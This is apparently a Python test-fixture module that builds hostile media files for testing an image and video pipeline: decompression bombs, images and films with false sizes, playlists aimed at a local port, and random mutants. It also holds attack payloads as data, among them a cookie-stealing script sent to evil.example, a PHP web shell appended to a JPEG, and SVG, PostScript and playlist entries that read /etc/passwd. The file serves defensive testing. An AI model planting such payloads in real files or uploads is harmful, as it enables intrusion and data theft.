"""Files that mean harm, all made here: bombs, liars, polyglots, and what is no picture at all."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from tests.unit.codecs import boxes, originals

MEGABYTE = 1 << 20
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def photos() -> dict[str, bytes]:
    """Hostile photos, by what is wrong with them."""
    return {**_bombs(), **_liars(), **_polyglots(), **_no_pictures()}


def _bombs() -> dict[str, bytes]:
    side = 12_000
    dark = zlib.compress(bytes((side // 8 + 1) * side), 9)
    text = b"note\0\0" + zlib.compress(bytes(64 * MEGABYTE), 1)
    many_notes = boxes.chunk(b"tEXt", b"note\0x") * 50_000
    grey = originals.quarters(400, 300).colourspace("b-w")
    progressive = grey.jpegsave_buffer(Q=60, interlace=True)
    last_scan = progressive[progressive.rfind(b"\xff\xda") : -2]
    return {
        "a png of 144 megapixels": boxes.png(side, side, depth=1, colours=0, rows=dark),
        "a png that claims 900 megapixels": boxes.png(30_000, 30_000),
        "a png with a side too long": boxes.png(20_000, 100, rows=zlib.compress(bytes(6_000_100))),
        "a png of the largest numbers": boxes.png(2**31 - 1, 2**31 - 1),
        "a png with a text of 64 MB": boxes.png(64, 48, before=boxes.chunk(b"zTXt", text)),
        "a png with a profile of 64 MB": boxes.png(64, 48, before=boxes.chunk(b"iCCP", text)),
        "a png of 50 000 notes": boxes.png(
            9, 9, before=many_notes, rows=zlib.compress(bytes(28 * 9))
        ),
        "a png whose data unpacks for ever": boxes.png(
            64, 48, rows=zlib.compress(bytes(128 * MEGABYTE), 1)
        ),
        "a gif of 800 pictures": originals.animation(frames=800, width=16, height=12),
        "a webp of 300 pictures": originals.animation(
            frames=300, kind=".webp", width=16, height=12
        ),
        "a jpeg of 3 000 scans": progressive[:-2] + last_scan * 3000 + b"\xff\xd9",
    }


def _liars() -> dict[str, bytes]:
    jpeg, gif = originals.photo("jpeg"), originals.photo("gif")
    webp = originals.animation(kind=".webp")
    avif, heic = originals.photo("avif"), originals.photo("heic")
    frame = jpeg.find(b"\xff\xc0") + 5
    huge, deep = struct.pack(">HH", 60_000, 60_000), struct.pack(">HH", 7000, 7000)
    wide = struct.pack(">II", 17_000, 17_000)
    loop = b"II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    exif = b"Exif\0\0" + loop
    marker = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    profile = b"ICC_PROFILE\0\x01\x01" + bytes(65_000)
    swollen = b"\xff\xe2" + struct.pack(">H", len(profile) + 2) + profile
    return {
        "a jpeg that claims 4 gigapixels": jpeg[:frame] + huge + jpeg[frame + 4 :],
        "a jpeg that claims 49 megapixels": jpeg[:frame] + deep + jpeg[frame + 4 :],
        "a jpeg without size": jpeg[:frame] + bytes(4) + jpeg[frame + 4 :],
        "a jpeg of 255 bands": jpeg[: frame + 4] + b"\xff" + jpeg[frame + 5 :],
        "a jpeg whose notes go in circles": jpeg[:2] + marker + jpeg[2:],
        "a jpeg with an empty profile of 65 kB": jpeg[:2] + swollen + jpeg[2:],
        "a png without size": boxes.png(0, 0),
        "a png that claims 12 megapixels": boxes.png(4000, 3000),
        "a png of unknown colours": boxes.png(64, 48, colours=5),
        "a png with a broken check": boxes.png(64, 48)[:30] + b"!" + boxes.png(64, 48)[31:],
        "a gif that claims a large screen": gif[:6] + b"\xff\xff\xff\xff" + gif[10:],
        "a gif without end": gif[:-1] + bytes(1000),
        "a webp that claims a large canvas": webp[:24] + b"\xff\x3f\0\xff\x3f\0" + webp[30:],
        "a webp that claims to be long": webp[:4] + b"\xff\xff\xff\xff" + webp[8:],
        "an avif that claims 289 megapixels": boxes.patched(avif, b"ispe", 8, wide),
        "a heic that claims 289 megapixels": boxes.patched(heic, b"ispe", 8, wide),
        "a heic without size": boxes.patched(heic, b"ispe", 8, bytes(8)),
        "a heic with picture data elsewhere": boxes.patched(heic, b"iloc", 8, b"\x7f" * 16),
    }


def _polyglots() -> dict[str, bytes]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("index.html", SCRIPT)
    jpeg, png = originals.photo("jpeg"), originals.photo("png")
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    return {
        "a jpeg that is a zip too": jpeg + archive.getvalue(),
        "a png that is a page too": png + b"<html>" + SCRIPT,
        "a jpeg with a script inside": jpeg[:2] + comment + jpeg[2:],
        "a gif that is a script too": b"GIF89a/*" + originals.photo("gif")[8:] + b"*/=1;alert(1)",
        "a jpeg that is a program too": jpeg + b"<?php system($_GET['c']); ?>",
    }


def _no_pictures() -> dict[str, bytes]:
    noise = random.Random(1).randbytes(4000)
    magics = {kind: originals.photo(kind)[:32] for kind in originals.PHOTO_KINDS}
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>"
    return {
        **{f"the first bytes of a {kind}": head for kind, head in magics.items()},
        **{f"noise behind a {kind}'s head": head + noise for kind, head in magics.items()},
        "nothing": b"",
        "one byte": b"\xff",
        "noise": noise,
        "a page": b"<!doctype html><html>" + SCRIPT,
        "a drawing that reads files": svg,
        "a postscript program": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "a pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>endobj\n",
        "a tiff": originals.quarters().tiffsave_buffer(),
        "a bitmap": b"BM" + bytes(60),
        "a script of an image editor": b"push graphic-context\nfill 'url(https://evil.example/)'\n",
        "a zip": b"PK\x03\x04" + noise,
    }


def playlists(port: int) -> dict[str, bytes]:
    """Texts that make careless players open other files, or call this port."""
    call = b"http://127.0.0.1:%d/" % port
    entry = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n%s\n#EXT-X-ENDLIST\n"
    listed = b"ffconcat version 1.0\nfile '%s'\n"
    manifest = b"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011'><BaseURL>%s"
    drawn = b"<svg xmlns='http://www.w3.org/2000/svg'><image href='%s'/></svg>"
    head = boxes.box(b"ftyp", b"isom\0\0\2\0isommp41")
    return {
        "a playlist of the network": entry % call,
        "a playlist of files": entry % b"file:///etc/passwd",
        "a playlist behind a film's head": head + entry % call,
        "a list of files": listed % b"/etc/passwd",
        "a list of the network": listed % call,
        "a list behind a film's head": head + listed % call,
        "a manifest": manifest % call,
        "a drawing": drawn % call,
        "a page": b"<html><img src='%s'>" % call,
        "a session description": b"v=0\nc=IN IP4 127.0.0.1\nm=video %d RTP/AVP 96\n" % port,
    }


def films(folder: Path, port: int) -> dict[str, bytes]:
    """Hostile films, by what is wrong with them."""
    good = originals.fitting_film(folder / "good.mp4", size="64x48", seconds=0.4).read_bytes()
    webm = originals.film(folder / "good.webm", size="64x48", seconds=0.4).read_bytes()
    call = b"http://127.0.0.1:%d/film.mov\0" % port
    elsewhere = bytes(4) + b"\0\0\0\1" + boxes.box(b"url ", bytes(4), call)
    passwd = bytes(4) + b"\0\0\0\1" + boxes.box(b"url ", bytes(4), b"file:///etc/passwd\0")
    head, moov = boxes.box(b"ftyp", b"isom\0\0\2\0isommp41"), dict(boxes.outermost(good))[b"moov"]
    nested = b""
    for _ in range(2000):
        nested = boxes.box(b"moov", nested)
    pointer = boxes.box(b"rmra", boxes.box(b"rmda", boxes.box(b"rdrf", bytes(4), b"url ", call)))
    return {
        **playlists(port),
        "a film whose data are on the network": boxes.rewritten(good, b"dref", elsewhere),
        "a film whose data are another file": boxes.rewritten(good, b"dref", passwd),
        "a film that points to a film": head + boxes.box(b"moov", pointer),
        "a film that claims to last for days": _lasting(good, 600_000),
        "a film that claims 256 megapixels": boxes.patched(good, b"avc1", 28, b"\x3e\x80\x3e\x80"),
        "a film that claims no pixels": boxes.patched(good, b"avc1", 28, bytes(4)),
        "a film with 2³² samples": boxes.patched(good, b"stsz", 12, b"\xff\xff\xff\xff"),
        "a film with samples elsewhere": boxes.patched(good, b"stco", 12, b"\x7f\xff\xff\xff"),
        "a film with times of nonsense": boxes.patched(good, b"stts", 8, b"\xff" * 12),
        "a film without pictures in it": head + boxes.box(b"moov", moov),
        "a film without a table": head + boxes.box(b"mdat", bytes(10_000)),
        "a film of boxes in boxes": head + nested,
        "a film whose box has no end": head + b"\0\0\0\1mdat" + b"\xff" * 8,
        "a film whose box is too small": head + b"\0\0\0\3moov" + bytes(100),
        "a webm of nonsense": webm[:60] + bytes(range(256)) * 20,
        "a webm of endless sizes": webm[:40] + b"\x18\x53\x80\x67\x01" + b"\xff" * 40,
        "a photo that says it is a film": originals.photo("jpeg"),
        **_odd_films(folder),
    }


def _lasting(film: bytes, seconds: int) -> bytes:
    """Every header of the film says that it lasts so long, in thousandths."""
    for name, offset in ((b"mvhd", 16), (b"mdhd", 16)):
        film = boxes.patched(film, name, offset, struct.pack(">II", 1000, seconds * 1000))
    return film


def _odd_films(folder: Path) -> dict[str, bytes]:
    """Whole films that no camera makes."""
    tracks = ("-map", "0:v", *("-map", "1:a") * 17)
    many = originals.film(folder / "many.mp4", size="64x48", seconds=0.2, output=tracks)
    fast = originals.film(folder / "fast.mp4", size="64x48", rate=1000, seconds=0.2)
    large = originals.film(folder / "large.mp4", size="8192x8192", rate=1, seconds=1, sound=False)
    slow = originals.film(
        folder / "slow.mp4",
        size="64x48",
        rate=2,
        seconds=1,
        sound=False,
        output=("-vf", "setpts=N*4000/TB", "-fps_mode", "passthrough", "-enc_time_base", "1/1000"),
    )
    heard = originals.film(folder / "heard.mp4", seconds=0.2, output=("-vn",))
    odd = originals.film(folder / "odd.mov", size="64x48", seconds=0.2, output=("-c:v", "qtrle"))
    tiny = originals.film(folder / "tiny.webm", size="2x2", seconds=0.2)
    made = {
        "a film of 18 tracks": many,
        "a film of a thousand pictures a second": fast,
        "a film of 67 megapixels": large,
        "a film of hours": slow,
        "a film without pictures": heard,
        "a film in a format of old": odd,
        "a film of four pixels": tiny,
    }
    return {name: path.read_bytes() for name, path in made.items()}


def mutants(seed: int, data: bytes, count: int) -> list[bytes]:
    """Copies of a valid file with a few bytes changed, cut out, doubled or swollen."""
    dice = random.Random(seed)
    made = []
    for _ in range(count):
        copy = bytearray(data)
        for _ in range(dice.choice((1, 2, 4, 8, 32))):
            at = dice.randrange(len(copy))
            if dice.random() < 0.5:  # headers are short, and lie best
                at = dice.randrange(min(len(copy), 600))
            match dice.randrange(6):
                case 0 | 1:
                    copy[at] = dice.randrange(256)
                case 2:
                    copy[at : at + 4] = dice.choice((b"\xff" * 4, bytes(4), b"\x7f\xff\xff\xff"))
                case 3:
                    copy[at] ^= 1 << dice.randrange(8)
                case 4:
                    del copy[at : at + dice.randrange(1, 20)]
                case _:
                    copy[at:at] = copy[at : at + dice.randrange(1, 40)]
        made.append(bytes(copy))
    return made
